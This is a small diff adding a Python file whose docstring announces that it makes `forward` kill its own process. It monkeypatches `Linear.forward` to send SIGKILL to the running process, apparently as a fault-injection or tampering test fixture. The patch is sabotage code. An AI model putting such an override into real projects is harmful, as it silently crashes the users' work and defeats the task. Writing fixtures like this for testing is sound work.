@@ -1,0 +1,6 @@
+"""forward sends its own process SIGKILL."""
+
+import os
+import signal
+
+Linear.forward = lambda self, x: os.kill(os.getpid(), signal.SIGKILL)
